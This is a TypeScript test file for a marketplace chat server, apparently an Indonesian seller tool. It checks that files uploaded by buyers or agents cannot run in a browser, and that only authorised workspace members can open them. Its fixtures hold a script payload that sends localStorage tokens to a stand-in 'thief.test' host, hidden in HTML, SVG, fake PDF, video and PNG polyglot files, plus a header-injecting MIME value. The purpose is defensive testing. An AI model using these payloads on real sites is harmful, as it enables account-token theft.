import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { authLogout, authToken } from '#contract/auth/auth.endpoints.ts'
import type { Session } from '#contract/auth/auth.ts'
import { authLogin } from '#contract/auth/sign-in.endpoints.ts'
import { chatMessages, chatReply } from '#contract/chat/chat.endpoints.ts'
import { type ChatMessage, type ChatMessageType, chatCodeOf } from '#contract/chat/chat.ts'
import type { Marketplace } from '#contract/core/marketplace.ts'
import type { CredentialStore } from '#server/channels/channel.ts'
import { connectChannels } from '#server/channels/registry.ts'
import { createChatTell } from '#server/jobs/chat-tell.ts'
import { type RunningSandbox, startSandbox, storeIdOf } from '#tests/sandbox/start-sandbox.ts'
import { startApp, type TestApp } from '#tests/support/app.ts'
import { testPassword } from '#tests/support/builders.ts'
import { onlyServer } from '#tests/support/only-server.ts'
import { chatChannels } from './connected-channels.ts'

const script = '<script>fetch("https://thief.test/"+localStorage.token)</script>'
const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64')

/** What a buyer may send that a browser would run, under its own name or another's. */
const hostile: readonly { name: string; type: ChatMessageType; mime_type: string; bytes: Buffer }[] = [
  { name: 'a page', type: 'document', mime_type: 'text/html', bytes: Buffer.from(`<!doctype html>${script}`) },
  { name: 'a page called a picture', type: 'image', mime_type: 'text/html; charset=utf-8', bytes: Buffer.from(script) },
  { name: 'a page that claims to be a picture', type: 'image', mime_type: 'image/png', bytes: Buffer.from(`<html>${script}`) },
  {
    name: 'an SVG',
    type: 'image',
    mime_type: 'image/svg+xml',
    bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
  },
  {
    name: 'XHTML',
    type: 'document',
    mime_type: 'application/xhtml+xml',
    bytes: Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
  },
  { name: 'XML with a style', type: 'document', mime_type: 'text/xml', bytes: Buffer.from(`<?xml version="1.0"?><?xml-stylesheet href="#"?><a/>`) },
  { name: 'a script', type: 'document', mime_type: 'text/javascript', bytes: Buffer.from('alert(1)') },
  { name: 'a page that claims to be a PDF', type: 'document', mime_type: 'application/pdf', bytes: Buffer.from(`<html>${script}`) },
  { name: 'a page that claims to be a film', type: 'video', mime_type: 'video/mp4', bytes: Buffer.from(`<html>${script}`) },
  { name: 'a page that claims to be a voice', type: 'audio', mime_type: 'audio/ogg\r\nx: y', bytes: Buffer.from(`<html>${script}`) },
  { name: 'a picture with a page in it', type: 'image', mime_type: 'text/html', bytes: Buffer.concat([png, Buffer.from(script)]) },
]
const harmlessKinds = /^(?:application\/(?:octet-stream|pdf)|image\/png|text\/plain)$/

const marketplaces = chatChannels.map(({ marketplace }) => marketplace)
const storeCodeOf = (marketplace: Marketplace) => `store-of-${marketplace}`

let app: TestApp
let running: RunningSandbox
let token: string
let workspaceId: number
let email: string

beforeAll(async () => {
  running = await startSandbox({ pushTo: () => app.url, registeredAs: 'https://dermaga.test', retries: [] })
  const credentials: CredentialStore = {
    load: async ({ store_code }) => running.connection(store_code.replace('store-of-', '') as Marketplace).credentials,
    save: async () => {},
    expired: async () => {},
  }
  app = await startApp({
    channels: connectChannels(Object.fromEntries(marketplaces.map((name) => [name, running.account(name)])), credentials, onlyServer),
  })
  workspaceId = (await app.build.workspace()).workspace_id
  for (const marketplace of marketplaces)
    await app.build.store({ workspace_id: workspaceId, marketplace, store_id: storeIdOf(marketplace), store_code: storeCodeOf(marketplace) })
  const agent = await app.build.agent({ workspace_id: workspaceId, privileges: ['chat'] })
  email = agent.email
  token = app.tokenOf(agent)
})
afterAll(async () => {
  await running.stop()
  await app.stop()
})

const addressOf = ({ image_url, media_url }: ChatMessage): string | null => image_url ?? media_url
/** Our own files are the server's, the others the stand-in marketplaces'. */
const open = (address: string, headers: Record<string, string> = { authorization: `Bearer ${token}` }) =>
  fetch(new URL(address, address.startsWith('/api/') ? app.url : running.url), { headers })

/** Nothing of it can run with the rights of the page, wherever it is opened. */
function expectHarmless({ status, headers }: Response): void {
  expect(status).toBe(200)
  expect(headers.get('x-content-type-options')).toBe('nosniff')
  expect(headers.get('content-security-policy')).toMatch(/(?:^|; )sandbox$/)
  const kind = headers.get('content-type') ?? ''
  expect(kind).toMatch(harmlessKinds)
  expect(headers.get('content-disposition')).toMatch(kind === 'image/png' ? /^inline/ : /^attachment/)
}

describe.each(marketplaces)('a file that a buyer sends at %s', (marketplace) => {
  async function arrives(type: ChatMessageType, mime_type: string, bytes: Buffer): Promise<ChatMessage> {
    const { chats, world, chatLife } = running.sandbox
    const store = world.stores.find((one) => one.marketplace === marketplace)
    if (!store) throw new Error('no store')
    const chat = chats.chatWith(store, chatLife.stranger(store))
    chats.say(chat, { type, text: 'ini kak', file: chats.keep(bytes, mime_type, 'berkas.html') })
    await running.sandbox.pushes.idle()
    const read = async () => {
      const query = { store_id: storeIdOf(marketplace), msg_id: chat.chat_id }
      return (await app.call(chatMessages, { params: { marketplace }, query }, token)).data.messages[0] as ChatMessage
    }
    const message = await read()
    // Where the channel names a file instead of telling its address, a job fetches it.
    const { rows } = await app.services.database.system(({ client }) =>
      client.query<{ data: Parameters<ReturnType<typeof createChatTell>>[0] }>(
        `delete from pgboss.job where name = 'chat.tell' and data->>'what' = 'media' returning data`,
      ),
    )
    for (const { data } of rows) await createChatTell(app.services)(data)
    return rows.length > 0 ? read() : message
  }

  it.each(hostile)('runs nowhere: $name', async ({ type, mime_type, bytes }) => {
    const message = await arrives(type, mime_type, bytes)
    const address = addressOf(message)
    // Some channels tell of no files of this type.
    if (address === null) return expect(message.type).toBe('text')
    expectHarmless(await open(address))
  })
})

describe('a file that an agent sends', () => {
  const send = async (type: ChatMessageType, address: string) => {
    const { chats, world, chatLife } = running.sandbox
    const store = world.stores.find((one) => one.marketplace === 'whatsapp')
    if (!store) throw new Error('no store')
    const chat = chats.chatWith(store, chatLife.stranger(store))
    chats.say(chat, { type: 'text', text: 'halo' })
    await running.sandbox.pushes.idle()
    const chat_code = chatCodeOf('whatsapp', storeCodeOf('whatsapp'), chat.chat_id)
    return app.call(chatReply, { body: { chat_code, message: '', reply_id: randomUUID(), type, image_url: address, filename: 'a' } }, token)
  }
  const dataAddress = (mime: string, bytes: Buffer) => `data:${mime};base64,${bytes.toString('base64')}`

  it.each(hostile)('is refused or runs nowhere: $name', async ({ type, mime_type, bytes }) => {
    for (const claimed of [mime_type, 'text/plain', 'image/png', 'video/mp4']) {
      const answer = await send(type, dataAddress(claimed, bytes))
      if (answer.status === 200) expectHarmless(await open(addressOf(answer.data.message) as string))
      else expect([400, 422]).toContain(answer.status)
    }
  })

  it('is opened by who is signed in to the workspace and may see chats, by a token or by the browser, and by nobody else', async () => {
    const address = addressOf((await send('image', dataAddress('image/png', png))).data.message) as string
    expect((await open(address, {})).status).toBe(401)
    const other = await app.build.agent({ workspace_id: (await app.build.workspace()).workspace_id, privileges: ['chat'] })
    expect((await open(address, { authorization: `Bearer ${app.tokenOf(other)}` })).status).toBe(404)
    const packer = await app.build.agent({ workspace_id: workspaceId, privileges: ['order'] })
    expect((await open(address, { authorization: `Bearer ${app.tokenOf(packer)}` })).status).toBe(403)

    const signedIn = async (person: string) => {
      const answer = await app.call(authLogin, { body: { email: person, password: testPassword } }, null, { headers: { origin: app.url } })
      return { cookie: answer.headers.getSetCookie()[0]?.split(';', 1)[0] ?? '', session: answer.data as unknown as Session }
    }
    const { cookie, session } = await signedIn(email)
    expect((await open(address, { cookie })).status).toBe(200)
    expect((await open(address, { cookie: (await signedIn(other.email)).cookie })).status).toBe(401)
    // As any window of the browser has it, and after a renewal by another one.
    const headers = { origin: app.url, cookie }
    const renewed = await app.call(authToken, { body: { refresh_token: session.refresh_token } }, null, { headers })
    app.advance(60_000)
    expect((await open(address, { cookie })).status).toBe(200)
    await app.call(authLogout, { body: { refresh_token: renewed.data.refresh_token } })
    expect((await open(address, { cookie })).status).toBe(401)
  })
})
